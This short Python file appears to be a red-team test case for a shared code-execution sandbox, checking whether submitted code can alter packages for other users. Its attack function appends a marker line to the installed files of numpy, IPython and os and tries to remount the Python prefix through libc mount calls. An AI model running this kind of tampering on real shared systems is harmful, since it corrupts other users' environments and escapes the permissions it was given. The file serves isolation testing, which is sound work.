"""The installed packages are changed for everyone.

Success: the attack leaves a trace, or a neighbor's outputs change.
"""

ALONE = True


def attack(submission):
    submission.first("""
        import os, sys, ctypes
        import numpy, IPython
        for module in (numpy, IPython, os):
            try:
                with open(module.__file__, "a") as file:
                    file.write("\\nprint('red-team-was-here')\\n")
            except OSError as error:
                print(error)
        libc = ctypes.CDLL(None)
        print(libc.mount(None, sys.prefix.encode(), None, 32 | 4096, None))
        print(libc.mount(b"tmpfs", sys.prefix.encode(), b"tmpfs", 0, None))
    """)
